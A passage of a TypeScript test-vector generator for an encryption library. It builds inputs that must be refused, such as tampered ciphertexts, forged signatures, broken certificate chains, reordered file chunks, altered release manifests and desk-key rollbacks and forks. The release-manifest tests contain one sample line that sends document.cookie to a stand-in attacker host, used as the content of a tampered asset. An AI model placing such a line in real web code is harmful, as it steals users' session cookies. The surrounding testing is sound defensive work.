/**
 * Reject vectors: every way a reader must refuse its input, made by altering the outputs of
 * the positive vectors (flipped bytes, wrong ids, swapped records, reordered chunks...).
 * Each is checked against the library as it is built.
 */
import { type CaseKey, type VaultKey, brandAs } from '../../src/brands';
import { aeadEncrypt } from '../../src/aead';
import { adOf } from '../../src/binding';
import { type Certificate } from '../../src/certificates';
import { generateDeskKeyPair } from '../../src/desk-keys';
import { concatBytes, fromBase64Url, utf8 } from '../../src/encoding';
import { withRecordedRandom } from '../../src/internal/deterministic-random';
import { sealKey } from '../../src/sealed-box';
import { hashReleaseFile, releaseBuildId } from '../../src/release';
import { encryptSigned } from '../../src/signed-payload';
import { lib } from '../../src/sodium';
import { wrapVaultKey } from '../../src/vault';
import { type Vector } from '../vector-runner';
import { reject } from './build-vectors';
import { caseKeyRejects } from './build-case-key-vectors';
import { subjectRejects } from './build-subject-vectors';
import { grantRejects } from './build-grant-vectors';
import { type JsonObject, arr, b64, bytes, deskFrom, identityFrom, namedSeed, obj, rootFrom, seedsFor, str, toJson } from './vector-io';
import { type DeskKeyPair, type IdentityKeys } from '../../src/brands';
import { deskSubjectId, issueCertificate } from '../../src/certificates';
import { type DeskHistoryEntry, deskVersionKeys, signDeskApproval, signDeskLink } from '../../src/desk-history';
import { kidOf } from '../../src/keys';
import { issueRevocation } from '../../src/revocations';

function find(vectors: readonly Vector[], id: string): Vector & { expected: JsonObject } {
  const vector = vectors.find((candidate) => candidate.id === id);
  if (!vector?.expected) throw new Error(`no positive vector ${id}`);
  return vector as Vector & { expected: JsonObject };
}

/** Flips the lowest bit of byte `index` (negative: from the end) of base64url `text`. */
function flipB64(text: string, index: number): string {
  const raw = fromBase64Url(text, 'flip').slice();
  const at = index < 0 ? raw.length + index : index;
  raw[at] = (raw[at] ?? 0) ^ 1;
  return b64(raw);
}

/** Replaces field `field` (0 = prefix) of a dot-separated string. */
function withField(text: string, field: number, value: string): string {
  const parts = text.split('.');
  parts[field] = value;
  return parts.join('.');
}

function field(text: string, index: number): string {
  return text.split('.')[index] ?? '';
}

export async function buildRejectVectors(vectors: readonly Vector[]): Promise<Vector[]> {
  const out: Vector[] = [];
  const add = async (id: string, op: string, description: string, inputs: JsonObject, expectedError: string): Promise<void> => {
    out.push(await reject([...vectors, ...out], id, op, description, inputs, expectedError));
  };

  // base64url
  for (const [id, text] of [['trailing-bits', 'AB'], ['padding', 'AA=='], ['length-1-mod-4', 'AAAAA'], ['alphabet', 'AA+A'], ['whitespace', 'AA A']] as const) {
    await add(`b64-${id}`, 'base64url', `base64url decoder rejects ${id}`, { text }, 'bad_encoding');
  }

  // case records (a1)
  const rec = find(vectors, 'record');
  const recArgs = { caseKey: str(rec.inputs, 'caseKey'), binding: obj(rec.inputs, 'binding'), authorKid: str(rec.expected, 'authorKid'), authorSignPk: str(rec.expected, 'authorSignPk') };
  const ct = str(rec.expected, 'ciphertext');
  const recordCase = (id: string, description: string, change: Partial<JsonObject>, code: string): Promise<void> =>
    add(`record-${id}`, 'record-open', description, { ...recArgs, ciphertext: ct, ...change } as JsonObject, code);
  await recordCase('prefix-a2', 'unknown version prefix a2', { ciphertext: withField(ct, 0, 'a2') }, 'bad_prefix');
  await recordCase('no-prefix', 'missing prefix', { ciphertext: ct.slice(3) }, 'bad_prefix');
  await recordCase('extra-field', 'five fields', { ciphertext: `${ct}.AAAA` }, 'bad_encoding');
  await recordCase('check-noncanonical', 'check field with non-zero trailing bits', { ciphertext: withField(ct, 1, field(ct, 1).slice(0, -1) + 'B') }, 'bad_encoding');
  await recordCase('nonce-23', 'nonce of 23 bytes', { ciphertext: withField(ct, 2, b64(fromBase64Url(field(ct, 2), 'n').subarray(1))) }, 'bad_length');
  await recordCase('ct-unpadded-length', 'ciphertext not 256k+16 bytes', { ciphertext: withField(ct, 3, b64(concatBytes(fromBase64Url(field(ct, 3), 'c'), new Uint8Array(1)))) }, 'bad_length');
  await recordCase('flip-key-check', 'key check altered', { ciphertext: withField(ct, 1, flipB64(field(ct, 1), 0)) }, 'wrong_key');
  await recordCase('flip-ad-check', 'AD check altered', { ciphertext: withField(ct, 1, flipB64(field(ct, 1), 8)) }, 'wrong_ad');
  await recordCase('wrong-case-key', 'opened with another case key', { caseKey: namedSeed('other-case-key') }, 'wrong_key');
  await recordCase('wrong-record-id', 'opened as another record', { binding: { ...obj(rec.inputs, 'binding'), recordId: 'rec-9999' } }, 'wrong_ad');
  await recordCase('swapped-case', 'record moved to another case', { binding: { ...obj(rec.inputs, 'binding'), caseId: 'case-0002' } }, 'wrong_ad');
  await recordCase('wrong-kind', 'opened as another record kind', { binding: { ...obj(rec.inputs, 'binding'), recordKind: 'note' } }, 'wrong_ad');
  await recordCase('flip-nonce', 'nonce altered', { ciphertext: withField(ct, 2, flipB64(field(ct, 2), 5)) }, 'tampered');
  await recordCase('flip-body', 'first ciphertext byte altered', { ciphertext: withField(ct, 3, flipB64(field(ct, 3), 0)) }, 'tampered');
  await recordCase('flip-tag', 'last (tag) byte altered', { ciphertext: withField(ct, 3, flipB64(field(ct, 3), -1)) }, 'tampered');
  await recordCase('wrong-author-key', 'author key is not the one named by authorKid', { authorSignPk: b64(identityFrom(seedsFor('requester')).signPk) }, 'wrong_key');
  const other = find(vectors, 'record-empty');
  await recordCase('swapped-record', 'another record of the same case put in its place', { ciphertext: str(other.expected, 'ciphertext') }, 'wrong_ad');

  // Authenticated but wrong inside: made with the internal functions, as a malicious key holder could.
  const caseKey = brandAs<CaseKey>(bytes(rec.inputs, 'caseKey'));
  const b = obj(rec.inputs, 'binding');
  const binding = { purpose: 'case-record', caseId: str(b, 'caseId'), recordId: str(b, 'recordId'), recordKind: str(b, 'recordKind') } as const;
  const victim = identityFrom(seedsFor('staff'));
  const attacker = identityFrom(seedsFor('attacker'));
  const forged = withRecordedRandom('forged-author', () => encryptSigned(caseKey, binding, { said: 'forged' }, attacker)).result;
  await recordCase('forged-author', 'signed by another key but labelled with the victim kid', { ciphertext: forged.ciphertext }, 'bad_signature');
  const sign = (json: string): Uint8Array => concatBytes(lib().crypto_sign_detached(concatBytes(adOf(binding), utf8(json)), victim.signSk), utf8(json));
  const sealedPlain = (plain: Uint8Array): string => withRecordedRandom(`plain-${plain.length}`, () => aeadEncrypt(caseKey, binding, plain)).result;
  await recordCase('bad-padding', 'authenticated plaintext without valid padding', { ciphertext: sealedPlain(new Uint8Array(256)) }, 'malformed_plaintext');
  await recordCase('not-json', 'signed plaintext that is not JSON', { ciphertext: sealedPlain(lib().pad(sign('{not json'), 256)) }, 'malformed_plaintext');
  await recordCase('not-canonical', 'signed JSON with unsorted keys', { ciphertext: sealedPlain(lib().pad(sign('{"b":1,"a":2}'), 256)) }, 'malformed_plaintext');

  // File keys and metadata
  const fk = find(vectors, 'file-key');
  const fkArgs = { caseKey: str(fk.inputs, 'caseKey'), caseId: 'case-0001', fileId: 'file-0001', wrapped: str(fk.expected, 'wrapped') };
  await add('file-key-wrong-file', 'file-key-open', 'file key opened for another file', { ...fkArgs, fileId: 'file-0002' }, 'wrong_ad');
  await add('file-key-as-meta', 'file-meta-open', 'a wrapped file key offered as file metadata', { ...fkArgs, ciphertext: fkArgs.wrapped }, 'bad_length');
  const meta = find(vectors, 'file-meta');
  await add('file-meta-as-file-key', 'file-key-open', 'file metadata offered as a wrapped file key', { ...fkArgs, wrapped: str(meta.expected, 'ciphertext') }, 'bad_length');
  await add('file-meta-wrong-file', 'file-meta-open', 'metadata moved to another file', { ...fkArgs, fileId: 'file-0002', ciphertext: str(meta.expected, 'ciphertext') }, 'wrong_ad');

  // Vaults
  const vault = find(vectors, 'vault');
  const vaultArgs = { vaultKey: str(vault.expected, 'vaultKey'), userId: 'user-7f3a', vault: str(vault.expected, 'vault') };
  await add('vault-wrong-user', 'vault-open', 'vault opened for another user', { ...vaultArgs, userId: 'user-0000' }, 'wrong_ad');
  await add('vault-wrong-key', 'vault-open', 'vault opened with another vault key', { ...vaultArgs, vaultKey: namedSeed('other-vault-key') }, 'wrong_key');
  await add('vault-flip', 'vault-open', 'vault ciphertext altered', { ...vaultArgs, vault: withField(vaultArgs.vault, 3, flipB64(field(vaultArgs.vault, 3), 10)) }, 'tampered');
  const ref = { userId: 'user-7f3a', unlockMethodId: 'method-cheap' };
  const cheap = withRecordedRandom('cheap-wrap', () =>
    wrapVaultKey(brandAs<VaultKey>(bytes({ k: namedSeed('vault-key') }, 'k')), ref, { method: 'passphrase', passphrase: 'right passphrase' }, { opsLimit: 1, memLimitBytes: 8 * 1024 * 1024 }),
  ).result;
  const wrap = toJson(cheap) as JsonObject;
  await add('vault-wrong-passphrase', 'vault-unwrap', 'a wrong passphrase', { wrap, ...ref, secret: { passphrase: 'wrong passphrase' } }, 'wrong_key');
  await add('vault-wrong-method-id', 'vault-unwrap', 'a wrap read for another unlock method', { wrap, ...ref, unlockMethodId: 'method-other', secret: { passphrase: 'right passphrase' } }, 'wrong_ad');
  await add('wrap-v2', 'vault-wrap-parse', 'unknown wrap version', { wrap: { ...wrap, v: 2 } }, 'bad_prefix');
  await add('wrap-ops-too-high', 'vault-wrap-parse', 'opsLimit above the bound', { wrap: { ...wrap, opsLimit: 100 } }, 'bad_encoding');
  await add('wrap-mem-too-high', 'vault-wrap-parse', 'memLimitBytes above the bound', { wrap: { ...wrap, memLimitBytes: 4 * 1024 * 1024 * 1024 } }, 'bad_encoding');
  await add('wrap-extra-member', 'vault-wrap-parse', 'an unknown member', { wrap: { ...wrap, hint: 'x' } }, 'bad_encoding');
  await add('wrap-short-salt', 'vault-wrap-parse', 'a 15-byte salt', { wrap: { ...wrap, salt: b64(new Uint8Array(15)) } }, 'bad_length');

  // Case key envelopes (s1)
  const envelope = find(vectors, 'case-key-grant');
  const g = obj(envelope.expected, 'envelope');
  const envelopeArgs = { envelope: g, caseId: 'case-0001', opener: seedsFor('requester'), sealerSignPk: b64(victim.signPk) };
  const sealed = str(g, 'sealedKey');
  await add('envelope-wrong-recipient', 'envelope-open', 'opened by someone it was not sealed to', { ...envelopeArgs, opener: seedsFor('attacker') }, 'wrong_key');
  await add('envelope-other-case', 'envelope-open', 'envelope moved to another case', { ...envelopeArgs, caseId: 'case-0002' }, 'wrong_ad');
  await add('envelope-wrong-sealer', 'envelope-open', 'sealer key differs from sealerKid', { ...envelopeArgs, sealerSignPk: b64(attacker.signPk) }, 'wrong_key');
  await add('envelope-flip-signature', 'envelope-open', 'envelope signature altered', { ...envelopeArgs, envelope: { ...g, signature: flipB64(str(g, 'signature'), 3) } }, 'bad_signature');
  await add('envelope-flip-sealed', 'envelope-open', 'sealed bytes altered', { ...envelopeArgs, envelope: { ...g, sealedKey: withField(sealed, 2, flipB64(field(sealed, 2), 40)) } }, 'tampered');
  await add('envelope-prefix', 'envelope-open', 'unknown sealed-key prefix s2', { ...envelopeArgs, envelope: { ...g, sealedKey: withField(sealed, 0, 's2') } }, 'bad_prefix');
  await add('envelope-short', 'envelope-open', 'sealed bytes one byte short', { ...envelopeArgs, envelope: { ...g, sealedKey: withField(sealed, 2, b64(fromBase64Url(field(sealed, 2), 's').subarray(1))) } }, 'bad_length');

  // Desk keys
  const desk = find(vectors, 'desk-key');
  const deskArgs = { rootSignPk: str(desk.expected, 'rootSignPk'), deskChain: desk.expected['deskChain'] ?? null, member: seedsFor('staff'), now: '2030-06-01T00:00:00Z', sealed: str(desk.expected, 'sealed') };
  const member = identityFrom(seedsFor('staff'));
  const impostor = withRecordedRandom('impostor-desk', () => {
    const other = generateDeskKeyPair('desk-legal', 2);
    return sealKey(other.deskSk, member.encPk, { purpose: 'desk-key', ids: ['desk-legal', '2'] });
  }).result;
  await add('desk-key-mismatch', 'desk-key-open', 'a sealed secret key that is not the certified desk key', { ...deskArgs, sealed: impostor }, 'public_key_mismatch');
  await add('desk-key-wrong-member', 'desk-key-open', 'opened by another member', { ...deskArgs, member: seedsFor('admin') }, 'wrong_key');
  const root = rootFrom(seedsFor('root'));
  const admin = identityFrom(seedsFor('admin'));
  const certSign = (signer: Uint8Array, body: Omit<Certificate, 'signature' | 'v' | 'issuerKid'>, issuerKid: string): Certificate => ({
    v: 1,
    ...body,
    issuerKid: issuerKid as Certificate['issuerKid'],
    signature: b64(lib().crypto_sign_detached(utf8(`ashar/v1|cert|${body.kind}|${body.subjectId}|${body.encPk}|${body.signPk}|${body.notAfter}`), signer)),
  });
  const [deskCert, adminCert] = (desk.expected['deskChain'] as unknown as Certificate[]) ?? [];
  if (!deskCert || !adminCert) throw new Error('desk chain missing');
  const v3 = certSign(admin.signSk, { ...deskCert, subjectId: 'desk-legal:3' }, deskCert.issuerKid);
  await add('desk-key-other-version', 'desk-key-open', 'version-2 sealed key opened as version 3', { ...deskArgs, deskChain: toJson([v3, adminCert]) }, 'wrong_ad');

  // The desk-key vector's version 2, replayed from its draw: a copy with a clamped bit flipped has
  // the same encPk (X25519 ignores it) but another derived signing key, which the member refuses.
  const deskSeedDraw = (desk.draws ?? []).find((draw) => draw.label === 'desk-seed');
  if (!deskSeedDraw) throw new Error('desk-key vector has no desk-seed draw');
  const realV2 = deskFrom('desk-legal', 2, deskSeedDraw.bytes);
  const clamped = realV2.deskSk.slice();
  clamped[0] = (clamped[0] ?? 0) ^ 1;
  const clampedSealed = withRecordedRandom('clamped-desk', () => sealKey(clamped as typeof realV2.deskSk, member.encPk, { purpose: 'desk-key', ids: ['desk-legal', '2'] })).result;
  await add('desk-key-sign-mismatch', 'desk-key-open', 'a secret key with the certified encPk (a clamped bit flipped) but another derived signing key', { ...deskArgs, sealed: clampedSealed }, 'public_key_mismatch');

  await buildDeskTrustRejects(vectors, add);

  // Certificates
  const staff = find(vectors, 'cert-staff');
  const chain = staff.expected['chain'] as unknown as Certificate[];
  const [staffCert] = chain;
  if (!staffCert) throw new Error('staff chain missing');
  const certArgs = { chain: toJson(chain), rootSignPk: str(staff.expected, 'rootSignPk'), now: '2030-06-01T00:00:00Z' };
  await add('cert-wrong-root', 'certificate-verify', 'verified against another root key', { ...certArgs, rootSignPk: b64(attacker.signPk) }, 'untrusted_certificate');
  await add('cert-expired', 'certificate-verify', 'verified after notAfter', { ...certArgs, now: '2031-01-01T00:00:00Z' }, 'untrusted_certificate');
  await add('cert-flip-signature', 'certificate-verify', 'leaf signature altered', { ...certArgs, chain: toJson([{ ...staffCert, signature: flipB64(staffCert.signature, 0) }, adminCert]) }, 'bad_signature');
  await add('cert-changed-key', 'certificate-verify', 'leaf encPk replaced after signing', { ...certArgs, chain: toJson([{ ...staffCert, encPk: b64(attacker.encPk) }, adminCert]) }, 'bad_signature');
  const rootStaff = certSign(root.signSk, { kind: 'staff', subjectId: 'user-7f3a', encPk: staffCert.encPk, signPk: staffCert.signPk, notAfter: staffCert.notAfter }, adminCert.issuerKid);
  await add('cert-root-issued-staff', 'certificate-verify', 'a staff certificate signed directly by the root', { ...certArgs, chain: toJson([rootStaff]) }, 'untrusted_certificate');
  await add('cert-broken-chain', 'certificate-verify', 'leaf issued by someone other than the next certificate', { ...certArgs, chain: toJson([staffCert, { ...adminCert, signPk: b64(attacker.signPk) }]) }, 'untrusted_certificate');
  await add('cert-too-long', 'certificate-verify', 'a chain of three', { ...certArgs, chain: toJson([staffCert, adminCert, adminCert]) }, 'untrusted_certificate');
  await add('cert-v2', 'certificate-verify', 'unknown certificate version', { ...certArgs, chain: toJson([{ ...staffCert, v: 2 }, adminCert]) }, 'bad_prefix');
  await add('cert-bad-date', 'certificate-verify', 'notAfter with milliseconds', { ...certArgs, chain: toJson([{ ...staffCert, notAfter: '2031-01-01T00:00:00.000Z' }, adminCert]) }, 'bad_encoding');
  await add('cert-extra-member', 'certificate-verify', 'an unknown member', { ...certArgs, chain: toJson([{ ...staffCert, role: 'lead' }, adminCert]) }, 'bad_encoding');

  // Attachments: chunks re-made from file-stream-200000 (chunks 0-2 full, 3 final)
  const source = 'file-stream-200000';
  const all = [0, 1, 2, 3].map((from) => ({ from }));
  const chunks = (id: string, description: string, inputs: JsonObject, code: string): Promise<void> => add(`stream-${id}`, 'stream-chunks', description, { source, ...inputs }, code);
  await chunks('ok-control', 'control: all chunks in order must pass — listed to prove the op can succeed', { take: all }, 'none');
  await chunks('missing-final', 'chunks 0-2 without the final chunk', { take: all.slice(0, 3) }, 'truncated_stream');
  await chunks('index-gap', 'chunk 2 sent as index 2 right after 0', { take: [{ from: 0 }, { from: 2, index: 2 }] }, 'chunk_order');
  await chunks('duplicate-index', 'chunk 0 sent twice', { take: [{ from: 0 }, { from: 0, index: 0 }] }, 'chunk_order');
  await chunks('after-final', 'a chunk after the final one', { take: [...all, { from: 3, index: 4 }] }, 'chunk_order');
  await chunks('reordered-bytes', 'chunk 1 labelled as index 0', { take: [{ from: 1, index: 0 }] }, 'tampered');
  await chunks('flipped', 'a byte of chunk 1 altered', { take: [{ from: 0 }, { from: 1, flip: 1000 }] }, 'tampered');
  await chunks('too-long', 'a chunk longer than 65553 bytes', { take: [{ from: 0, append: 1 }] }, 'bad_length');
  await chunks('wrong-file', 'header checked for another file', { take: all, fileId: 'file-0002' }, 'wrong_ad');
  await chunks('wrong-key', 'opened with another file key', { take: all, fileKey: namedSeed('other-file-key') }, 'wrong_key');
  const header = str(find(vectors, source).expected, 'header');
  await chunks('header-prefix', 'unknown header prefix x2', { take: all, header: withField(header, 0, 'x2') }, 'bad_prefix');
  await chunks('header-short', 'a 23-byte header', { take: all, header: withField(header, 2, b64(fromBase64Url(field(header, 2), 'h').subarray(1))) }, 'bad_length');
  const bytesCase = (id: string, description: string, inputs: JsonObject, code: string): Promise<void> => add(`stream-bytes-${id}`, 'stream-bytes', description, { source, ...inputs }, code);
  await bytesCase('missing-final', 'byte stream ending at a chunk boundary before the final chunk', { take: all.slice(0, 3) }, 'truncated_stream');
  await bytesCase('empty', 'empty byte stream', { take: [] }, 'truncated_stream');
  await bytesCase('swapped', 'chunks 1 and 2 swapped', { take: [{ from: 0 }, { from: 2 }, { from: 1 }, { from: 3 }] }, 'tampered');
  await bytesCase('duplicated', 'chunk 1 repeated', { take: [{ from: 0 }, { from: 1 }, { from: 1 }, { from: 2 }, { from: 3 }] }, 'tampered');
  await bytesCase('cut', 'last 10 bytes missing', { take: all, cut: 10 }, 'tampered');
  await bytesCase('trailing-in-last-piece', 'a byte after a short final chunk joins its piece', { take: all, extra: b64(new Uint8Array(1)) }, 'tampered');
  await add('stream-bytes-trailing-piece', 'stream-bytes', 'a byte after a full-size final chunk', { source: 'file-stream-65536', take: [{ from: 0 }], extra: b64(new Uint8Array(1)) }, 'chunk_order');

  // Codes, challenges, root export
  await add('receipt-letter-u', 'receipt-normalise', 'U is not Crockford base32', { input: 'UUUU-0000-0000-0000-0000' }, 'bad_encoding');
  await add('receipt-19', 'receipt-normalise', '19 characters', { input: '0000-0000-0000-0000-000' }, 'bad_length');
  await add('receipt-21', 'receipt-normalise', '21 characters', { input: '0000-0000-0000-0000-00000' }, 'bad_length');
  await add('receipt-23', 'receipt-normalise', '23 characters (between versions 1 and 2)', { input: '0000-0000-0000-0000-0000-000' }, 'bad_length');
  await add('receipt-25', 'receipt-normalise', '25 characters', { input: '0000-0000-0000-0000-0000-00000' }, 'bad_length');
  await add('receipt-2-letter-u', 'receipt-normalise', 'U is not Crockford base32 in a version 2 code either', { input: '0000-0000-0000-0000-0000-000U' }, 'bad_encoding');
  await add('recovery-27', 'recovery-normalise', '27 characters', { input: '0000-0000-0000-0000-0000-0000-000' }, 'bad_length');
  const challenge = find(vectors, 'challenge');
  const chArgs = { signPk: str(challenge.expected, 'signPk'), instanceId: 'ashar.example.org', challenge: str(challenge.inputs, 'challenge'), signature: str(challenge.expected, 'signature') };
  await add('challenge-other', 'challenge-verify', 'signature of another challenge', { ...chArgs, challenge: namedSeed('other-challenge') }, 'bad_signature');
  await add('challenge-other-instance', 'challenge-verify', 'signature made for another instance', { ...chArgs, instanceId: 'other.example.org' }, 'bad_signature');
  await add('challenge-short', 'challenge-verify', 'a 31-byte challenge', { ...chArgs, challenge: b64(new Uint8Array(31)) }, 'bad_length');
  const rootKey = find(vectors, 'root-key');
  await add('root-key-prefix', 'root-key-import', 'unknown root export prefix', { text: withField(str(rootKey.expected, 'exported'), 0, 'rk2') }, 'bad_prefix');
  await add('root-key-short', 'root-key-import', 'a 31-byte seed', { text: `rk1.${b64(new Uint8Array(31))}` }, 'bad_length');

  // Audit checkpoints (SPEC.md §16)
  const acp = find(vectors, 'audit-checkpoint');
  const checkpoint = obj(acp.expected, 'checkpoint');
  const pinned = [str(acp.expected, 'publicKey')];
  const checkpointCase = (id: string, description: string, inputs: JsonObject, code: string): Promise<void> => add(`audit-checkpoint-${id}`, 'audit-checkpoint-verify', description, inputs, code);
  await checkpointCase('ok-control', 'control: the checkpoint under its pinned key must pass', { checkpoint, pinned }, 'none');
  await checkpointCase('other-head', 'head changed after signing (a rewritten chain)', { checkpoint: { ...checkpoint, head: '0'.repeat(64) }, pinned }, 'bad_signature');
  await checkpointCase('other-seq', 'seq changed after signing', { checkpoint: { ...checkpoint, seq: '1233' }, pinned }, 'bad_signature');
  await checkpointCase('other-instance', 'instance changed after signing', { checkpoint: { ...checkpoint, instance: 'other.example.org' }, pinned }, 'bad_signature');
  await checkpointCase('not-pinned', 'signed by a key the reader did not pin', { checkpoint, pinned: [b64(attacker.signPk)] }, 'wrong_key');
  await checkpointCase('v2', 'unknown checkpoint version', { checkpoint: { ...checkpoint, v: 2 }, pinned }, 'bad_prefix');
  await checkpointCase('upper-hex', 'head in upper-case hex', { checkpoint: { ...checkpoint, head: str(checkpoint, 'head').toUpperCase() }, pinned }, 'bad_encoding');
  await checkpointCase('seq-leading-zero', 'seq with a leading zero', { checkpoint: { ...checkpoint, seq: '01234' }, pinned }, 'bad_encoding');
  await checkpointCase('at-millis', 'time with milliseconds', { checkpoint: { ...checkpoint, at: '2030-06-01T00:00:00.000Z' }, pinned }, 'bad_encoding');
  await checkpointCase('extra-member', 'an unknown member', { checkpoint: { ...checkpoint, prev: 'x' }, pinned }, 'bad_encoding');
  await checkpointCase('short-signature', 'a 63-byte signature', { checkpoint: { ...checkpoint, signature: b64(new Uint8Array(63)) }, pinned }, 'bad_length');
  await add('audit-checkpoint-key-prefix', 'audit-checkpoint-key-import', 'a root key export offered as a checkpoint key file', { text: withField(str(acp.expected, 'keyFile'), 0, 'rk1') }, 'bad_prefix');
  await add('audit-checkpoint-key-short', 'audit-checkpoint-key-import', 'a 31-byte seed', { text: `ack1.${b64(new Uint8Array(31))}` }, 'bad_length');
  // Release manifests (§15)
  const release = find(vectors, 'release-manifest');
  const manifest = obj(release.expected, 'manifest');
  const releaseArgs = { manifest, rootSignPk: str(release.expected, 'rootSignPk') };
  const releaseFiles = obj(manifest, 'files') as Readonly<Record<string, string>>;
  const evil = { ...releaseFiles, '/assets/index-a1b2c3.js': hashReleaseFile(utf8('fetch("https://attacker.example/" + document.cookie);\n')) };
  await add('release-control', 'release-verify', 'the published manifest verifies (control)', releaseArgs, 'none');
  await add('release-other-root', 'release-verify', 'verified against another root key', { ...releaseArgs, rootSignPk: b64(rootFrom(seedsFor('attacker')).signPk) }, 'wrong_key');
  await add('release-changed-file', 'release-verify', 'a file hash replaced, build id left', { ...releaseArgs, manifest: { ...manifest, files: evil } }, 'bad_encoding');
  await add('release-changed-file-new-id', 'release-verify', 'a file hash replaced and the build id recomputed', { ...releaseArgs, manifest: { ...manifest, files: evil, buildId: releaseBuildId(evil) } }, 'bad_signature');
  await add('release-later-date', 'release-verify', 'issuedAt moved after signing', { ...releaseArgs, manifest: { ...manifest, issuedAt: '2031-01-01T00:00:00Z' } }, 'bad_signature');
  await add('release-flip-signature', 'release-verify', 'signature altered', { ...releaseArgs, manifest: { ...manifest, signature: flipB64(str(manifest, 'signature'), 5) } }, 'bad_signature');
  await add('release-v2', 'release-verify', 'unknown manifest version', { ...releaseArgs, manifest: { ...manifest, v: 2 } }, 'bad_prefix');
  await add('release-extra-member', 'release-verify', 'an unknown member', { ...releaseArgs, manifest: { ...manifest, label: 'x' } }, 'bad_encoding');
  const dotted = { ...releaseFiles, '/.well-known/x.js': hashReleaseFile(utf8('x')) };
  await add('release-dot-path', 'release-verify', 'a path with a segment that starts with a dot', { ...releaseArgs, manifest: { ...manifest, files: dotted, buildId: releaseBuildId(dotted) } }, 'bad_encoding');
  const noWorker = Object.fromEntries(Object.entries(releaseFiles).filter(([path]) => path !== '/sw.js'));
  await add('release-no-service-worker', 'release-verify', 'a list without /sw.js', { ...releaseArgs, manifest: { ...manifest, files: noWorker, buildId: releaseBuildId(noWorker) } }, 'bad_encoding');
  await add('release-short-signature', 'release-verify', 'a 63-byte signature', { ...releaseArgs, manifest: { ...manifest, signature: b64(new Uint8Array(63)) } }, 'bad_length');
  // SPEC.md §9.1-§9.3 (build-case-key-vectors.ts).
  await caseKeyRejects([...vectors, ...out], add);
  // SPEC.md §18 (build-grant-vectors.ts).
  await grantRejects([...vectors, ...out], add);
  // SPEC.md §19 (build-subject-vectors.ts).
  await subjectRejects([...vectors, ...out], add);
  return out;
}

type Add = (id: string, op: string, description: string, inputs: JsonObject, expectedError: string) => Promise<void>;

/** Desk key continuity (§8.2) and revocation (§8.3): every way a history or a statement is refused. */
async function buildDeskTrustRejects(vectors: readonly Vector[], add: Add): Promise<void> {
  const history = find(vectors, 'desk-history');
  const inputs = history.inputs;
  const deskId = str(inputs, 'deskId');
  const entries = history.expected['entries'] as unknown as DeskHistoryEntry[];
  const [e1, e2, e3] = entries;
  if (!e1 || !e2 || !e3) throw new Error('desk history has three entries');
  const [adminCert] = history.expected['adminChain'] as unknown as Certificate[];
  const [approverCert] = history.expected['approverChain'] as unknown as Certificate[];
  if (!adminCert || !approverCert) throw new Error('desk history chains missing');
  const root = rootFrom(obj(inputs, 'root'));
  const admin = identityFrom(obj(inputs, 'admin'));
  const approver = identityFrom(obj(inputs, 'approver'));
  const seeds = arr(inputs, 'seeds') as string[];
  const desks = seeds.map((seed, index) => deskFrom(deskId, index + 1, seed));
  const v1 = desks[0] as DeskKeyPair;
  const v3 = desks[2] as DeskKeyPair;
  const notAfter = new Date(str(inputs, 'notAfter'));
  const base = { deskId, rootSignPk: b64(root.signPk), now: str(inputs, 'now') };
  const historyCase = (id: string, description: string, list: readonly unknown[], code: string, extra: JsonObject = {}): Promise<void> =>
    add(`desk-history-${id}`, 'desk-history-verify', description, { ...base, entries: toJson(list), ...extra }, code);

  /** A version `version` certified by `by` (default: the history's admin), with a link or an approval. */
  const version = (seed: string, n: number, options: { linkFrom?: DeskKeyPair; approver?: IdentityKeys; approverCert?: Certificate; certifiedAt?: string } = {}): DeskHistoryEntry => {
    const desk = deskFrom(deskId, n, namedSeed(seed));
    const keys = deskVersionKeys(desk);
    const cert = issueCertificate(admin, { kind: 'desk', subjectId: deskSubjectId(deskId, n), encPk: desk.encPk, signPk: desk.signPk, notAfter });
    const at = options.certifiedAt ?? '2030-04-01T00:00:00.000Z';
    return {
      version: n,
      encPk: keys.encPk,
      signPk: keys.signPk,
      chain: [cert, adminCert],
      certifiedAt: at,
      link: options.linkFrom ? signDeskLink(options.linkFrom, keys) : null,
      approval: options.approver && options.approverCert ? { signature: signDeskApproval(options.approver, keys), chain: [options.approverCert], approvedAt: at } : null,
    };
  };

  await historyCase('ok-control', 'control: the published history verifies', entries, 'none');
  await historyCase('standin-unlinked', 'the attack: an admin certifies version 4 its stand-in lead made without holding version 3 (no link, no approval)', [...entries, version('standin', 4)], 'untrusted_history');
  await historyCase('standin-self-approved', 'version 4 approved by the admin who certified it', [...entries, version('standin', 4, { approver: admin, approverCert: adminCert })], 'untrusted_history');
  const twinCert = issueCertificate(root, { kind: 'admin', subjectId: 'user-admin-twin', encPk: admin.encPk, signPk: admin.signPk, notAfter });
  await historyCase('standin-twin-approver', 'version 4 approved by a second admin account with the certifying admin’s signing key', [...entries, version('standin', 4, { approver: admin, approverCert: twinCert })], 'untrusted_history');
  await historyCase('standin-linked-from-older', 'version 4 linked with version 1’s key instead of version 3’s', [...entries, version('standin', 4, { linkFrom: v1 })], 'untrusted_history');
  await historyCase('standin-approved-ok', 'control: the same version 4 approved by a second admin verifies', [...entries, version('standin', 4, { approver, approverCert })], 'none');
  await historyCase('first-unapproved', 'version 1 without an approval', [{ ...e1, approval: null }], 'untrusted_history');
  await historyCase('forged-approval', 'version 1 with its approval signature altered', [{ ...e1, approval: { ...(e1.approval as NonNullable<DeskHistoryEntry['approval']>), signature: flipB64((e1.approval as { signature: string }).signature, 5) } }], 'untrusted_history');
  await historyCase('dropped-middle', 'version 2 left out: version 3’s link does not verify under version 1', [e1, e3], 'untrusted_history');
  await historyCase('reordered', 'versions out of order', [e2, e1, e3], 'untrusted_history');
  await historyCase('empty', 'no version at all', [], 'untrusted_history');
  await historyCase('other-desk', 'the history of another desk', entries, 'untrusted_history', { deskId: 'desk-medical' });
  await historyCase('changed-key', 'version 3’s listed encPk is not the certified one', [e1, e2, { ...e3, encPk: e2.encPk }], 'untrusted_history');
  const seenV3 = { version: 3, encKid: kidOf(v3.encPk) };
  await historyCase('rollback', 'the server serves versions 1-2 to a client that verified version 3 before', [e1, e2], 'untrusted_history', { seen: seenV3 });
  await historyCase('fork', 'another version 3, linked from version 2, for a client that verified the real one', [e1, e2, version('fork', 3, { linkFrom: desks[1] as DeskKeyPair })], 'untrusted_history', { seen: seenV3 });
  await historyCase('expired-newest', 'the newest version checked after its notAfter', entries, 'untrusted_certificate', { now: '2031-01-01T00:00:00Z' });
  const revokedAt = new Date('2030-03-15T00:00:00Z');
  const revokeV3 = { statement: toJson(issueRevocation(approver, { kind: 'desk', subjectId: deskSubjectId(deskId, 3), kid: kidOf(v3.encPk), revokedAt })), chain: toJson([approverCert]) };
